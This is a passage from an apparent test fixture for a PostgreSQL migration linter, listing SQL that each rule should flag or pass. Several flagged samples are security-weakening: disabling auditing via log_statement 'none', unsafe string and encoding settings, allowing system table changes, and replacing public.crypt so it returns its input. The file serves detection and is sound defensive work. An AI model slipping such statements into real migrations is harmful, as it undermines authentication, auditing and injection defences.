      'CREATE VIEW v WITH (security_barrier = false) AS SELECT 1;',
      'ALTER VIEW v SET (security_invoker = false);',
      'ALTER VIEW v RESET (security_invoker);',
    ],
    quiet: [
      "CREATE POLICY p ON t USING (tenant_id = current_setting('app.tenant_id')::uuid);",
      'ALTER TABLE t ENABLE ROW LEVEL SECURITY;',
      'ALTER TABLE t FORCE ROW LEVEL SECURITY;',
      'CREATE POLICY r ON t AS RESTRICTIVE USING (true);',
      'CREATE POLICY p ON t USING (tenant_id = current_tenant_id() AND (true OR owner_id = 1));',
      'ALTER VIEW v SET (security_invoker = true);',
    ],
  },
  SG323: {
    triggers: [
      "COMMENT ON ROLE app IS 'x';",
      "COMMENT ON DATABASE app IS 'x';",
      "SECURITY LABEL FOR selinux ON TABLE t IS 'system_u:object_r:sepgsql_table_t:s0';",
    ],
    quiet: ["COMMENT ON TABLE t IS 'x';", "COMMENT ON COLUMN t.a IS 'x';"],
  },
  SG324: {
    triggers: [
      'CALL admin.rotate_keys();',
      'DO $$ BEGIN CALL cleanup(); END $$;',
      // Even a procedure the migration defines: production's may answer the CALL instead (another overload, a
      // procedure renamed or moved to that name, another schema on the search_path, another case).
      'CREATE PROCEDURE cleanup() LANGUAGE sql AS $$ DELETE FROM t $$; CALL cleanup();',
      "CREATE PROCEDURE admin.rotate_keys(n int) LANGUAGE sql AS $$ SELECT 1 $$; CALL admin.rotate_keys('x'::text);",
      "CREATE PROCEDURE admin.x(n int) LANGUAGE sql AS $$ SELECT 1 $$; ALTER PROCEDURE admin.rotate_keys(text) RENAME TO x; CALL admin.x('y'::text);",
      "CREATE PROCEDURE app.rotate_keys(n int) LANGUAGE sql AS $$ SELECT 1 $$; ALTER ROUTINE admin.rotate_keys(text) SET SCHEMA app; CALL app.rotate_keys('y'::text);",
      "ALTER SCHEMA admin RENAME TO app; CREATE PROCEDURE app.rotate_keys(n int) LANGUAGE sql AS $$ SELECT 1 $$; CALL app.rotate_keys('x'::text);",
      'CREATE PROCEDURE "Cleanup"() LANGUAGE sql AS $$ SELECT 1 $$; CALL cleanup();',
      'CREATE PROCEDURE public.cleanup() LANGUAGE sql AS $$ SELECT 1 $$; CALL cleanup();',
      'CREATE PROCEDURE app.p() LANGUAGE sql AS $$ SELECT 1 $$; CALL app.p();',
      'CREATE FUNCTION app.run() RETURNS void LANGUAGE plpgsql AS $$ BEGIN CALL app.p(); END $$;',
      'CREATE PROCEDURE app.q() BEGIN ATOMIC CALL app.p(); END;',
      'CREATE PROCEDURE app.q() LANGUAGE sql AS $$ CALL app.p() $$;',
    ],
    quiet: [
      'CREATE PROCEDURE cleanup() LANGUAGE sql AS $$ DELETE FROM t $$;',
      'CREATE PROCEDURE app.p(n int) LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = n; END $$;',
      "SELECT 'CALL admin.rotate_keys()' AS note;",
    ],
  },
  SG325: {
    triggers: [
      'SET standard_conforming_strings = off;',
      'RESET standard_conforming_strings;',
      'SET client_encoding TO DEFAULT;',
      "SELECT set_config('standard_conforming_strings', 'off', false);",
      "SET NAMES 'SJIS';",
      "SET client_encoding = 'GBK';",
      'SET backslash_quote = on;',
      'RESET ALL;',
      'DISCARD ALL;',
      "CREATE FUNCTION f() RETURNS text LANGUAGE sql SET standard_conforming_strings = off AS $$ SELECT 'a' $$;",
    ],
    quiet: [
      "SELECT E'a\\'';",
      'DISCARD PLANS;',
      "SELECT current_setting('standard_conforming_strings');",
      'SET standard_conforming_strings = on;',
      "SET client_encoding = 'UTF8';",
      'SET escape_string_warning = off;',
    ],
  },
  SG326: {
    triggers: ['SELECT to_regproc(name) FROM t;', 'SELECT 2245::regproc;', "SELECT (name || '')::regprocedure FROM t;"],
    quiet: [
      "SELECT nextval('users_id_seq'::regclass);",
      "SELECT 'lower'::regproc;",
      "SELECT to_regclass('public.users');",
    ],
  },
  SG327: {
    triggers: [
      'CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <;',
      'CREATE ACCESS METHOD m TYPE TABLE HANDLER h;',
      'ALTER EXTENSION pgcrypto ADD FUNCTION f();',
      'CREATE TYPE t (INPUT = f_in, OUTPUT = f_out);',
      'CHECKPOINT;',
      'CREATE CAST (int AS bool) WITHOUT FUNCTION;',
      'REINDEX SYSTEM app;',
      'CREATE CONVERSION c FOR $$UTF8$$ TO $$LATIN1$$ FROM f;',
    ],
    quiet: [
      'CREATE TYPE t AS (a int);',
      "CREATE TYPE mood AS ENUM ('a');",
      'CREATE TYPE t;',
      'REINDEX TABLE t;',
      'CREATE CAST (mood AS text) WITH INOUT;',
    ],
  },
  SG329: {
    triggers: [
      'SET lock_timeout = 0;',
      "SET LOCAL statement_timeout = '0';",
      "SELECT set_config('statement_timeout', v, true) FROM t;",
      'RESET lock_timeout;',
      'SET lock_timeout TO DEFAULT;',
      "SELECT set_config('statement_timeout', '0', true);",
      'SELECT pg_advisory_unlock_all();',
      'SELECT pg_advisory_xact_lock(42);',
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql SET statement_timeout = 0 AS $$ SELECT 1 $$;',
    ],
    quiet: [
      "SET lock_timeout = '1s';",
      'SET LOCAL lock_timeout = 500;',
      "SET statement_timeout = '30s';",
      "SELECT set_config('lock_timeout', '2s', true);",
      "SET LOCAL statement_timeout = '2h';",
    ],
  },
  SG117: {
    triggers: [
      "SET LOCAL statement_timeout = '2h';",
      "SET lock_timeout = '5s';",
      "SELECT set_config('lock_timeout', '1min', true);",
    ],
    quiet: ["SET lock_timeout = '2s';", "SET statement_timeout = '60s';", 'SET lock_timeout = 0;'],
  },
  SG330: {
    triggers: [
      'CREATE FUNCTION public.lower(varchar) RETURNS text LANGUAGE sql AS $$ SELECT $1 $$;',
      'CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = f);',
      'CREATE AGGREGATE sum(mood) (SFUNC = f, STYPE = int);',
      'ALTER FUNCTION my_lower(text) RENAME TO lower;',
      'CREATE OR REPLACE FUNCTION public.crypt(text, text) RETURNS text LANGUAGE sql AS $$ SELECT $2 $$;',
    ],
    quiet: [
      'CREATE FUNCTION app_lower(varchar) RETURNS text LANGUAGE sql AS $$ SELECT lower($1) $$;',
      'CREATE OPERATOR === (LEFTARG = mood, RIGHTARG = mood, FUNCTION = mood_eq);',
    ],
  },
  SG328: {
    triggers: [
      "SET log_statement = 'none';",
      'SET allow_system_table_mods = on;',
      'SELECT set_config(name, value, true) FROM settings;',
      "SET session_preload_libraries = 'x';",
      "SET pg_stat_statements.track = 'none';",
    ],
    quiet: [
      "SET statement_timeout = '5s';",
      "SET LOCAL app.tenant_id = '42';",
      "SET work_mem = '64MB';",
      "SET TIME ZONE 'UTC';",
      'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE;',
    ],
  },
  SG401: {
    triggers: [
      'CREATE TABLE t (id int PRIMARY KEY);',
      'CREATE TABLE t (id serial PRIMARY KEY);',
      'CREATE TABLE t (id integer, PRIMARY KEY (id));',
    ],
    quiet: [
      'CREATE TABLE t (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY);',
      'CREATE TABLE t (id bigint PRIMARY KEY, n int);',
    ],
  },
  SG402: {
    triggers: ['CREATE TABLE t (id bigserial PRIMARY KEY);', 'ALTER TABLE t ADD COLUMN n serial;'],
    quiet: ['CREATE TABLE t (id bigint GENERATED BY DEFAULT AS IDENTITY);'],
  },
  SG403: {
    triggers: ['CREATE TABLE t (at timestamp);', 'ALTER TABLE t ADD COLUMN at timestamp without time zone;'],
    quiet: ['CREATE TABLE t (at timestamptz);', 'CREATE TABLE t (at timestamp with time zone);'],
  },
  SG404: {
    triggers: ['CREATE TABLE t (name varchar(100));', 'CREATE TABLE t (name character varying(20));'],
    quiet: ['CREATE TABLE t (name text);', 'CREATE TABLE t (name varchar);'],
  },
  SG405: {
    triggers: [`CREATE TABLE ${'a'.repeat(64)} (id bigint);`, `CREATE TABLE t (${'é'.repeat(32)} text);`],
    quiet: [`CREATE TABLE ${'a'.repeat(63)} (id bigint);`],
  },
  SG406: {
    triggers: ['CREATE INDEX CONCURRENTLY i ON users (email);', 'DROP INDEX CONCURRENTLY i;'],
    quiet: ['CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON users (email);', 'DROP INDEX CONCURRENTLY IF EXISTS i;'],
  },
  SG407: { triggers: ['DO $$ BEGIN RAISE NOTICE $m$hi$m$; END $$;'], quiet: ['SELECT 1;'] },
};

/** A DO block nesting `depth` routine bodies, the innermost calling pg_sleep. */
function nestedRoutines(depth: number): string {
  let body = 'SELECT pg_sleep(0)';
  for (let level = depth; level > 0; level--) {
    const tag = `$l${level}$`;
    body = `CREATE FUNCTION f${level}() RETURNS void LANGUAGE sql AS ${tag} ${body} ${tag}`;
  }
  return `${body};`;
}
